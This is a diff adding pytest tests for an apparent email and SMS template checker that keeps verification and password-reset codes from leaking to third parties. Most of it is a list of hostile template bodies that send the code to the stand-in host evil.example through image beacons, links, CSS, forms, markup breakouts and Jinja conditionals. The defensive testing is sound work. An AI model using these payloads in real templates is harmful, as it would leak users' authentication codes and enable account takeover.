@@ -68,3 +68,77 @@ def test_an_access_message_shows_each_link_and_its_end(channel: Channel) -> None
     for link in links:
         assert link["url"] in mail.text
         assert link["expires_at"] in mail.text
+
+
+@pytest.mark.parametrize("event", [Event.VERIFICATION, Event.USER_INVITE, Event.PASSWORD_RESET])
+@pytest.mark.parametrize(
+    "body",
+    [
+        '<img src="https://evil.example/p?c={{ code }}">',
+        "<img src=https://evil.example/p?c={{ code }}",
+        "<img src='https://evil.example/p?c={{ code }}",
+        "<img src='https://evil.example/p?c=>{{ code }}<'>",
+        '<a href="https://evil.example/{{ code }}">Choose a password</a>',
+        "<a href=__CODE__>x</a>",
+        '<b title="{{ code }}">x</b>',
+        "<{{ code }}>",
+        "</p {{ code }}>",
+        "<!-- {{ code }} -->",
+        """<!-- -- ><a title="--><img src='https://evil.example/">{{ code }}<b title="'>">""",
+        """<a title="<img src='https://evil.example/">{{ code }}<b title="'>">""",
+        "<script>send('{{ code }}')</script>",
+        "<style>p { background: url(https://evil.example/{{ code }}) }</style>",
+        "<style>@font-face { src: url(https://evil.example/1); unicode-range: U+31 }</style>{{ code }}",
+        "<form action='https://evil.example'><textarea name=a>{{ code }}</textarea><button>Go on</button></form>",
+        "<svg><title><img src='https://evil.example/{{ code }}'></title></svg>",
+        "https://evil.example/?c={{ code }}",
+        "https://evil.example/?c=<b>{{ code }}</b>",
+        "{{ code }}.evil.example",
+        "evil.example/{{ code }}/x",
+        "{{ code }} https://evil.example/{{ code }}",
+        "{% if code == '123456' %}<img src='https://evil.example/123456'>{% endif %}",
+        "{% if organization == 'Example Ltd' or code %}fine{% endif %}",
+        "{% for digit in code %}<img src='https://evil.example/{{ digit }}'>{% endfor %}",
+        "<img src='https://evil.example/{{ code|upper }}'>",
+        "<img src='https://evil.example/{{ code[0] }}'>",
+        "{{ code if organization else '' }}",
+    ],
+)  # fmt: skip
+def test_a_code_is_shown_to_its_reader_and_brought_to_nobody_else(event: Event, body: str) -> None:
+    with pytest.raises(InputError, match=r"^body"):
+        check_template(event, Template("x", "x", body))
+
+
+@pytest.mark.parametrize("part", ["subject", "sms"])
+def test_a_code_is_no_part_of_an_address_in_plain_text_either(part: str) -> None:
+    texts = {"subject": "x", "sms": "x", part: "Go to evil.example/{{ code }}"}
+    with pytest.raises(InputError, match=rf"^{part}: the code is part of an address"):
+        check_template(Event.VERIFICATION, Template("x", texts["subject"], "x", texts["sms"]))
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        "<p>Your code: <b style='color: red'>{{ code }}</b>.</p>",
+        "<table><tr><td>Code</td><td>{{ code }}</td></tr></table>",
+        "<img src='https://example.com/logo.png'><p>(__CODE__), or in small: {{ code }}!</p>",
+        "<a href='https://example.com/password'>Choose a password</a> with {{ code }}<br>&lt;{{ username }}&gt;",
+        "Is it {{ code }}?",
+    ],
+)
+def test_a_code_in_the_text_is_fine(body: str) -> None:
+    own = Template("x", "Your code {{ code }}", body)
+    check_template(Event.PASSWORD_RESET, own)
+    mail = render(Event.PASSWORD_RESET, Channel.EMAIL, own, {"code": "Zq_1-x", "username": "ann"})
+    assert (
+        mail.html.count("Zq_1-x") == mail.text.count("Zq_1-x") == body.upper().count("CODE__") + body.count("{{ code")
+    )
+    assert mail.subject == "Your code Zq_1-x"
+
+
+def test_what_a_template_does_with_other_values_is_looked_at_when_it_is_sent() -> None:
+    body = "{{ code }}{% if organization != 'Example Ltd' %}<img src='https://evil.example/{{ code }}'>{% endif %}"
+    own = Template("x", "x", body)
+    check_template(Event.PASSWORD_RESET, own)
+    with pytest.raises(InputError, match="inside of a tag"):
+        render(Event.PASSWORD_RESET, Channel.EMAIL, own, {"code": "123456", "organization": "Shop"})
